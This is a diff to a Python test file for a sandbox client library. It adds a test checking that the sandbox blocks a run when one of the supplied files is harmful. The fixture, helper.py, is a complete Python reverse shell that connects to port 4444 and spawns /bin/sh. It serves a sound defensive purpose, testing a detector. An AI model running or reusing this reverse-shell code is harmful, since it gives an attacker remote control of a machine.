@@ -15,7 +15,7 @@ import pytest
 from conftest import check_schema, credentials
 from test_docker import WHY as NO_DOCKER
 
-from mai_sandbox import AsyncClient, FileEntry, UsageError
+from mai_sandbox import AsyncClient, Blocked, FileEntry, UsageError
 
 WRITER = (
     "import os\n"
@@ -140,3 +140,21 @@ def test_async_client_takes_files_too(served, pki):
     result = asyncio.run(main())
     assert result.stdout == b"async\n"
     assert [(f.path, f.content) for f in result.execution.files] == [("/sandbox/o", b"o")]
+
+
+def test_a_harmful_program_among_the_files_blocks_the_run(client):
+    helper = (b"import os, pty, socket\n"
+              b"def go():\n"
+              b"    s = socket.socket()\n"
+              b"    s.connect(('127.0.0.1', 4444))\n"
+              b"    os.dup2(s.fileno(), 0)\n"
+              b"    pty.spawn('/bin/sh')\n")
+    with pytest.raises(Blocked) as caught:
+        client.run("import helper\n", files={"helper.py": helper, "notes.txt": b"pty.spawn\n"})
+    a = caught.value.assessment
+    assert a.level == "BLOCKED"
+    assert [i.name for i in a.inputs] == ["helper.py"]
+    assert a.inputs[0].sha256 == sha(helper) and a.inputs[0].level == "BLOCKED"
+    assert "helper.py" in {f.file for f in a.findings if f.level == "BLOCKED"}
+    assert "helper.py" in caught.value.explanation
+    check_schema(caught.value.result)
